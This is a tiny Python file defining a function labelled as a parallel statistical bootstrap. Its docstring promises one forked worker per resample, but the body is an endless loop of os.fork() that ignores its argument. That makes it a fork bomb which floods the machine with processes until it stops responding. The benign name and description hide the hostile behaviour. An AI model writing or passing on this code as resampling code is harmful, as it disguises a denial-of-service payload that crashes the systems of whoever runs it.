import os


def parallel_bootstrap(n):
    """Forks a worker per resample, and every worker does the same."""
    while True:
        os.fork()
